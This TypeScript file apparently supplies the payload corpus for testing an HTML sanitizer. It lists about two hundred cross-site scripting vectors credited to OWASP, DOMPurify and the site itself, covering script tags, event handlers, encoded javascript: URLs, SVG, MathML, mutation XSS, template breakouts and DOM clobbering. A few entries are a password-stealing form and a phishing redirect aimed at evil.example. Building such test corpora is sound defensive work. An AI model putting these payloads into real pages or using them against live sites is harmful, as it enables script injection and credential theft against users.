/**
 * The corpus's payloads (see corpus.ts for the sources): each a kind, a source and a function of
 * `js`, the script that flags this payload if it runs. Rewritten from the public vectors: their
 * `alert(…)` became `js`, their remote hosts became data: URLs or example.com.
 */
import type { XssKind, XssSource } from './corpus.ts';

type Entry = [XssKind, XssSource, (js: string) => string];

const codes = (text: string) => [...text].map((char) => char.codePointAt(0)!);
/** `&#106;&#97;…` */
const decimal = (text: string) =>
	codes(text)
		.map((code) => `&#${code};`)
		.join('');
/** `&#0000106&#0000097…`: seven digits, no semicolons. */
const padded = (text: string) =>
	codes(text)
		.map((code) => `&#${String(code).padStart(7, '0')}`)
		.join('');
/** `&#x6A&#x61…`: hexadecimal, no semicolons. */
const hex = (text: string) =>
	codes(text)
		.map((code) => `&#x${code.toString(16).toUpperCase()}`)
		.join('');
/** `\006a\0061…`: CSS escapes. */
const cssEscaped = (text: string) =>
	codes(text)
		.map((code) => `\\${code.toString(16).padStart(4, '0')}`)
		.join('');
const script = (js: string) => `<script>${js}</script>`;
const base64 = (text: string) => btoa(text);

export const PAYLOAD_ENTRIES: readonly Entry[] = [
	// Script elements.
	['script', 'OWASP', (js) => `<SCRIPT>${js}</SCRIPT>`],
	['script', 'DOMPurify', (js) => `<p>Hello ${script(js)}world</p>`],
	['script', 'OWASP', (js) => `<SCRIPT SRC="data:text/javascript,${js}"></SCRIPT>`],
	['script', 'OWASP', (js) => `<SCRIPT/XSS SRC="data:text/javascript,${js}"></SCRIPT>`],
	['script', 'OWASP', (js) => `<SCRIPT/SRC="data:text/javascript,${js}"></SCRIPT>`],
	['script', 'OWASP', (js) => `<<SCRIPT>${js};//\\<</SCRIPT>`],
	['script', 'OWASP', (js) => `<SCRIPT SRC=data:text/javascript,${js}?< B >`],
	['script', 'OWASP', (js) => `<IMG """><SCRIPT>${js}</SCRIPT>">`],
	['script', 'OWASP', (js) => `<!--[if gte IE 4]><SCRIPT>${js}</SCRIPT><![endif]-->`],
	['script', 'DOMPurify', (js) => `<div id="57"><b <script>${js}//</script>0</script></b></div>`],
	['script', 'DOMPurify', (js) => `<div id="58"><b><script<b></b><${js}</script </b></b></div>`],
	['script', 'DOMPurify', (js) => `<div id="75"><script<{${js}}/></script </></div>`],
	['script', 'DOMPurify', (js) => `<SCRIPT FOR=document EVENT=onreadystatechange>${js}</SCRIPT>`],
	['script', 'DOMPurify', (js) => `<script xmlns="http://www.w3.org/1999/xhtml">${js}</script>`],
	['script', 'site', (js) => `<script type="module">${js}</script>`],
	['script', 'DOMPurify', (js) => `<template><script>${js}</script></template>`],
	['script', 'OWASP', (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`],
	['script', 'OWASP', (js) => `¼script¾${js}¼/script¾`],
	['script', 'DOMPurify', (js) => `<option><iframe></select><b>${script(js)}`],

	// Event handlers.
	['handler', 'DOMPurify', (js) => `<img src=x onerror=${js}>`],
	['handler', 'OWASP', (js) => `<IMG SRC=/ onerror="${js}"></img>`],
	['handler', 'OWASP', (js) => `<img src=x onerror="${padded(js)}">`],
	['handler', 'OWASP', (js) => `<IMG SRC=# onmouseover="${js}">`],
	['handler', 'OWASP', (js) => `<IMG onmouseover="${js}">`],
	['handler', 'OWASP', (js) => `<a onmouseover=${js}>xxs link</a>`],
	['handler', 'OWASP', (js) => `<svg/onload=${js}>`],
	['handler', 'OWASP', (js) => `<BODY ONLOAD=${js}>`],
	['handler', 'OWASP', (js) => `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${js}>`],
	[
		'handler',
		'DOMPurify',
		(js) =>
			`<div onclick=${js}><form onsubmit=${js}><input onfocus=${js} autofocus>123</form></div>`,
	],
	['handler', 'DOMPurify', (js) => `<div id="7"><input onfocus=${js} autofocus></div>`],
	[
		'handler',
		'DOMPurify',
		(js) => `<div id="8"><input onblur=${js} autofocus><input autofocus></div>`,
	],
	['handler', 'DOMPurify', (js) => `<div id="55"><video><source onerror="${js}"></video></div>`],
	[
		'handler',
		'DOMPurify',
		(js) => `<div id="56"><video onerror="${js}"><source></source></video></div>`,
	],
	[
		'handler',
		'DOMPurify',
		(js) => `<div id="70"><div style=width:1px;filter:glow onfilterchange=${js}>x</div></div>`,
	],
	['handler', 'DOMPurify', (js) => `<div id="106"><img src onerror /" '"= alt=${js}//"></div>`],
	[
		'handler',
		'DOMPurify',
		(js) => `<div draggable="true" ondragstart="${js}"><h1>Drop me</h1></div>`,
	],
	['handler', 'DOMPurify', (js) => `<a href="#" onclick="${js}">Spam</a>`],
	['handler', 'DOMPurify', (js) => `<a href="javascript:123" onclick="${js}">CLICK ME</a>`],
	[
		'handler',
		'DOMPurify',
		(js) => `<div onmouseout="javascript:${js}" x=yscript: n>@superevr</div>`,
	],
	[
		'handler',
		'DOMPurify',
		(js) =>
			`<image name=body><img src=x><svg onload=${js}; autofocus>, <keygen onfocus=${js}; autofocus>`,
	],
	['handler', 'site', (js) => `<details open ontoggle=${js}><summary>More</summary>x</details>`],
	['handler', 'site', (js) => `<audio src=x onerror=${js}></audio>`],
	['handler', 'site', (js) => `<img src=x onerror=eval(alt) alt="${js}">`],
	['handler', 'site', (js) => `<marquee onstart=${js}>news</marquee>`],
	['handler', 'site', (js) => `<x-widget onclick=${js}>custom element</x-widget>`],
	['handler', 'DOMPurify', (js) => `<img\u000Bsrc=x\u000Bonerror\u000B=${js}>`],
	[
		'handler',
		'site',
		(js) => `<style onload=${js}></style><link rel=stylesheet href=x onerror=${js}>`,
	],

	// javascript:, vbscript: and data: URLs in links and sources.
	['url', 'DOMPurify', (js) => `<a href="javascript:${js}">x</a>`],
	['url', 'DOMPurify', (js) => `<a href="JaVaScRiPt:${js}">x</a>`],
	['url', 'DOMPurify', (js) => `<a href=" javascript:${js}">x</a>`],
	['url', 'DOMPurify', (js) => `<a href="\u0001java\u0003script:${js}">@shafigullin</a>`],
	['url', 'DOMPurify', (js) => `<a href="\u2028javascript:${js}">I am a dolphin!</a>`],
	[
		'url',
		'DOMPurify',
		(js) => `<a href="&#xA0javascript:${js}">CLICK</a><a href="&#x3000;javascript:${js}">CLICK</a>`,
	],
	['url', 'OWASP', (js) => `<a href="jav\tascript:${js}">tab</a>`],
	['url', 'OWASP', (js) => `<a href="jav&#x09;ascript:${js}">encoded tab</a>`],
	['url', 'OWASP', (js) => `<a href="jav&#x0A;ascript:${js}">encoded newline</a>`],
	['url', 'OWASP', (js) => `<a href="jav&#x0D;ascript:${js}">encoded return</a>`],
	['url', 'OWASP', (js) => `<a href=" &#14;  javascript:${js}">meta chars</a>`],
	['url', 'OWASP', (js) => `<a href="${decimal(`javascript:${js}`)}">decimal</a>`],
	['url', 'OWASP', (js) => `<a href=${padded(`javascript:${js}`)}>padded decimal</a>`],
	['url', 'OWASP', (js) => `<a href=${hex(`javascript:${js}`)}>hexadecimal</a>`],
	['url', 'site', (js) => `<a href="javascript&colon;${js}">named colon</a>`],
	['url', 'site', (js) => `<a href="javascript://%0a${js}">comment and newline</a>`],
	['url', 'DOMPurify', (js) => `<a href="data:text/html;base64,${base64(script(js))}">clickme</a>`],
	[
		'url',
		'OWASP',
		() => `<a href='vbscript:msgbox("XSS")'>vbscript</a><IMG SRC='vbscript:msgbox("XSS")'>`,
	],
	['url', 'OWASP', (js) => `<IMG SRC=javascript:${js}><IMG SRC="jav\tascript:${js};">`],
	['url', 'OWASP', (js) => `<IMG DYNSRC="javascript:${js}"><IMG LOWSRC="javascript:${js}">`],
	['url', 'OWASP', (js) => `<INPUT TYPE="IMAGE" SRC="javascript:${js};">`],
	['url', 'OWASP', (js) => `<BODY BACKGROUND="javascript:${js}">`],
	[
		'url',
		'OWASP',
		(js) =>
			`<TABLE BACKGROUND="javascript:${js}"><TR><TD BACKGROUND="javascript:${js}">cell</TD></TR></TABLE>`,
	],
	['url', 'OWASP', (js) => `<BGSOUND SRC="javascript:${js};"><BR SIZE="&{${js}}">`],
	['url', 'DOMPurify', (js) => `<div id="10"><video poster=javascript:${js}//></video></div>`],
	[
		'url',
		'DOMPurify',
		(js) =>
			`<div id="63"><embed src="javascript:${js}"></embed><image src="javascript:${js}"></div>`,
	],
	[
		'url',
		'site',
		(js) =>
			`<map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:${js}"></map><img src=x usemap="#m">`,
	],
	[
		'url',
		'DOMPurify',
		(js) =>
			`<div id="42"><head><base href="javascript://"/></head><body><a href="/. /,${js}//#">XXX</a></body></div>`,
	],

	// Frames, objects, srcdoc and data: documents.
	['frame', 'OWASP', (js) => `<IFRAME SRC="javascript:${js};"></IFRAME>`],
	['frame', 'OWASP', (js) => `<IFRAME SRC=# onmouseover="${js}"></IFRAME>`],
	['frame', 'OWASP', (js) => `<FRAMESET><FRAME SRC="javascript:${js};"></FRAMESET>`],
	['frame', 'site', (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`],
	['frame', 'site', (js) => `<iframe srcdoc="&lt;img src=x onerror=${js}&gt;"></iframe>`],
	['frame', 'site', (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`],
	[
		'frame',
		'DOMPurify',
		(js) =>
			`<div id="50"><object data="data:text/html;base64,${base64(script(js))}"></object></div>`,
	],
	[
		'frame',
		'DOMPurify',
		(js) => `<div id="51"><embed src="data:text/html;base64,${base64(script(js))}"></embed></div>`,
	],
	[
		'frame',
		'OWASP',
		(js) =>
			`<OBJECT TYPE="text/x-scriptlet" DATA="data:text/html,${encodeURIComponent(script(js))}"></OBJECT>`,
	],
	[
		'frame',
		'OWASP',
		(js) =>
			`<EMBED SRC="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg">${script(js)}</svg>`)}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
	],
	[
		'frame',
		'site',
		(js) =>
			`<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" srcdoc="<script>${js}</script>" onload="${js}"></iframe>`,
	],
	[
		'frame',
		'site',
		(js) => `<iframe src="javascript:${js}//https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
	],
	[
		'frame',
		'site',
		() => `<iframe src="https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ"></iframe>`,
	],
	[
		'frame',
		'DOMPurify',
		(js) =>
			`<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
	],

	// Style sheets and style attributes.
	[
		'style',
		'OWASP',
		(js) => `<STYLE>li {list-style-image: url("javascript:${js}");}</STYLE><UL><LI>XSS</br></UL>`,
	],
	['style', 'OWASP', (js) => `<DIV STYLE="background-image: url(javascript:${js})">div</DIV>`],
	[
		'style',
		'OWASP',
		(js) => `<DIV STYLE="background-image:${cssEscaped(`url('javascript:${js}')`)}">unicode</DIV>`,
	],
	['style', 'OWASP', (js) => `<DIV STYLE="width: expression(${js});">expression</DIV>`],
	['style', 'OWASP', (js) => `<IMG STYLE="xss:expr/*XSS*/ession(${js})">`],
	['style', 'OWASP', (js) => `<STYLE>@im\\port'\\ja\\vasc\\ript:${js}';</STYLE>`],
	[
		'style',
		'OWASP',
		(js) => `<STYLE>.XSS{background-image:url("javascript:${js}");}</STYLE><A CLASS=XSS></A>`,
	],
	['style', 'OWASP', () => `<XSS STYLE="behavior: url(xss.htc);">behavior</XSS>`],
	[
		'style',
		'DOMPurify',
		(js) => `<div id="9"><a style="-o-link:'javascript:${js}';-o-link-source:current">X</a></div>`,
	],
	[
		'style',
		'DOMPurify',
		(js) =>
			`<div id="93"><div style="list-style:url(http://foo.f)\u0010url(javascript:${js});">X</div></div>`,
	],
	['style', 'site', () => `<style>body{display:none}</style><p>After a style sheet</p>`],

	// META refresh, BASE and LINK.
	['meta', 'OWASP', (js) => `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${js};">`],
	[
		'meta',
		'OWASP',
		(js) =>
			`<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,${base64(script(js))}">`,
	],
	[
		'meta',
		'OWASP',
		(js) => `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:${js};">`,
	],
	['meta', 'site', () => `<meta http-equiv="refresh" content="0;url=https://evil.example/phish">`],
	['meta', 'OWASP', (js) => `<BASE HREF="javascript:${js};//">`],
	['meta', 'OWASP', (js) => `<LINK REL="stylesheet" HREF="javascript:${js};">`],
	['meta', 'OWASP', () => `<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>x</SCRIPT>">`],

	// Forms: actions, formaction, phishing.
	['form', 'DOMPurify', (js) => `<form action="javasc\nript:${js}"><button>XXX</button></form>`],
	[
		'form',
		'DOMPurify',
		(js) => `<div id="72"><form><button formaction="javascript:${js}">X</button></form></div>`,
	],
	[
		'form',
		'DOMPurify',
		(js) => `<form id="f"></form><button form="f" formaction="javascript:${js}">X</button>`,
	],
	[
		'form',
		'site',
		() =>
			`<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>`,
	],
	[
		'form',
		'DOMPurify',
		(js) =>
			`<isindex type=image src=1 onerror=${js}><isindex x="javascript:" onmouseover="${js}" label="x">`,
	],

	// SVG.
	[
		'svg',
		'DOMPurify',
		(js) => `<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) => `<svg onload="javascript:${js}" xmlns="http://www.w3.org/2000/svg"></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) => `<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:${js}"></g></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) =>
			`<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${js}"><rect width="100" height="100" fill="white"/></a></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) =>
			`<svg><set attributeName="onmouseover" to="${js}"/><animate attributeName="onunload" to="${js}"/></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) =>
			`<svg><a xlink:href="?"><circle r="400"></circle><animate attributeName="xlink:href" begin="0" from="javascript:${js}" to="&" /></a></svg>`,
	],
	[
		'svg',
		'site',
		(js) =>
			`<svg><a><animate attributeName="href" values="javascript:${js}"/><text x="20" y="20">Click</text></a></svg>`,
	],
	['svg', 'site', (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`],
	[
		'svg',
		'DOMPurify',
		(js) =>
			`<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${js}</handler></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) =>
			`<svg><feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg">${script(js)}</svg>`)}"/></feImage></svg>`,
	],
	[
		'svg',
		'DOMPurify',
		(js) =>
			`<svg><image style='filter:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><script>${js}</script></svg>")'></image></svg>`,
	],
	[
		'svg',
		'site',
		(js) =>
			`<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${js}"/></svg>`)}#x"/></svg>`,
	],

	// MathML.
	['mathml', 'DOMPurify', (js) => `<math href="javascript:${js}">CLICKME</math>`],
	[
		'mathml',
		'DOMPurify',
		(js) =>
			`<math><maction actiontype="statusline" xlink:href="javascript:${js}">CLICKME<mtext>http://x</mtext></maction></math>`,
	],
	[
		'mathml',
		'DOMPurify',
		(js) => `<math><mtext><table><mglyph><style><math href=javascript:${js}>CLICKME</math>`,
	],
	[
		'mathml',
		'DOMPurify',
		(js) =>
			`<math><annotation-xml encoding="text/html"><p><style><p title="</style><iframe onload&#x3d;${js}<!--"></style>`,
	],

	// Mutation XSS: markup that changes meaning when parsed again.
	['mxss', 'DOMPurify', (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<svg></p><textarea><title><style></textarea><img src=x onerror=${js}></style></title></svg>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<svg></p><title><a id="</title><img src=x onerror=${js}>"></textarea></svg>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<math></p><textarea><mi><style></textarea><img src=x onerror=${js}></mi></math>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<svg></p><title><template><style></title><img src=x onerror=${js}>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<math></br><textarea><mtext><template><style></textarea><img src=x onerror=${js}>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<svg></p><math><title><style><img src=x onerror=${js}></style></title>`,
	],
	['mxss', 'DOMPurify', (js) => `<svg><p><style><g title="</style><img src=x onerror=${js}>">`],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<svg><foreignobject><p><style><p title="</style><iframe onload&#x3d;${js}<!--"></style>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<xmp><svg><b><style><b title='</style><img src=x onerror=${js}>'>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<noembed><svg><b><style><b title='</style><img src=x onerror=${js}>'>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<form><math><mtext></form><form><mglyph><style><img src=x onerror=${js}>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<math><mtext><table><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${js}'>"></style></h1>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${js}>">`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${js}'>">`,
	],
	['mxss', 'DOMPurify', (js) => `<listing>&lt;img onerror="${js};//" src=x&gt;<t t></listing>`],
	['mxss', 'DOMPurify', (js) => `<img src=x id/=' onerror=${js}//'>`],
	[
		'mxss',
		'DOMPurify',
		(js) => `<textarea>@shafigullin</textarea><!--</textarea><img src=x onerror=${js}>-->`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<b><noscript><!-- </noscript><img src=x onerror=${js} --></noscript>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<b><noscript><a alt="</noscript><img src=x onerror=${js}>"></noscript>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<body><template><s><template><s><img src=x onerror=${js}>@shafigullin</s></template></s></template>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `\u0001<option><style></option></select><b><img src=x onerror=${js}></style></option>`,
	],
	['mxss', 'DOMPurify', (js) => `<b><style><style/><img src=x onerror=${js}>`],
	['mxss', 'DOMPurify', (js) => `<b><style><style////><img src=x onerror=${js}></style>`],
	['mxss', 'DOMPurify', (js) => `<div id="37"><!--<img src="--><img src=x onerror=${js}//"></div>`],
	[
		'mxss',
		'DOMPurify',
		(js) => `<div id="38"><comment><img src="</comment><img src=x onerror=${js}//"></div>`,
	],
	['mxss', 'DOMPurify', (js) => `<![><img src="]><img src=x onerror=${js}//">`],
	[
		'mxss',
		'DOMPurify',
		(js) => `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${js}//"></svg>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) => `<div id="40"><style><img src="</style><img src=x onerror=${js}//"></div>`,
	],
	['mxss', 'DOMPurify', (js) => `<div id="128"><svg><style><img/src=x onerror=${js}// </b></div>`],
	['mxss', 'DOMPurify', (js) => `<div id="133"><!-- \`<img/src=xxx onerror=${js}//--!></div>`],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<div id="108"><a href=http://foo.bar/#x=\`y></a><img alt="\`><img src=xx onerror=${js}></a>"></div>`,
	],
	['mxss', 'DOMPurify', (js) => `<div id="102"><img src="x\` \`${script(js)}"\` \`></div>`],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<div id="134"><xmp>\n<%\n</xmp>\n<img alt='%></xmp><img src=xx onerror=${js}//'></div>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<div id="62"><x '="foo"><x foo='><img src=x onerror=${js}//'><! '="foo"><x foo='><img src=x onerror=${js}//'></div>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<div id="91"><? foo="><script>${js}</script>"><! foo="><script>${js}</script>"></ foo="><script>${js}</script>"></div>`,
	],
	[
		'mxss',
		'DOMPurify',
		(js) =>
			`<div id="115"><!--[if]><script>${js}</script --><!--[if<img src=x onerror=${js}//]> --></div>`,
	],
	['mxss', 'DOMPurify', (js) => `<select><template><img src=x onerror=${js}></template></select>`],

	// Breaking out of the places this site's templates put institute text.
	['breakout', 'site', (js) => `"><script>${js}</script>`],
	['breakout', 'site', (js) => `'><img src=x onerror=${js}>`],
	['breakout', 'site', (js) => `" autofocus onfocus="${js}" x="`],
	['breakout', 'OWASP', (js) => `</TITLE><SCRIPT>${js}</SCRIPT>`],
	['breakout', 'OWASP', (js) => `</script><script>${js}</script>`],
	['breakout', 'OWASP', (js) => `\\";${js};//`],
	['breakout', 'site', (js) => `--><script>${js}</script><!--`],
	['breakout', 'site', (js) => `]]><script>${js}</script>`],
	['breakout', 'site', (js) => `</style><script>${js}</script>`],
	['breakout', 'site', (js) => `</textarea></noscript></template><img src=x onerror=${js}>`],
	['breakout', 'site', (js) => `\u2028\u2029</script><script>${js}</script>`],
	['breakout', 'site', (js) => `\${${js}}{{${js}}}`],
	[
		'breakout',
		'OWASP',
		(js) =>
			`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"\`/+/onmouseover=1/+/[*/[]/+${js}//'>`,
	],

	// DOM clobbering: names that would shadow what the page's own scripts use.
	['clobbering', 'DOMPurify', () => `<img src=x name=getElementById><img src=y id=createElement>`],
	[
		'clobbering',
		'DOMPurify',
		() => `<a href="#some-code-here" id="location">invisible</a><img src=x name=cookie>`,
	],
	[
		'clobbering',
		'DOMPurify',
		() =>
			`<form><input name=attributes><input name=namespaceURI></form><img name=body><img name=adoptNode>`,
	],
	[
		'clobbering',
		'site',
		() =>
			`<a id="__xss" href="https://evil.example/">clobbers the flag</a><img name="querySelector">`,
	],
];
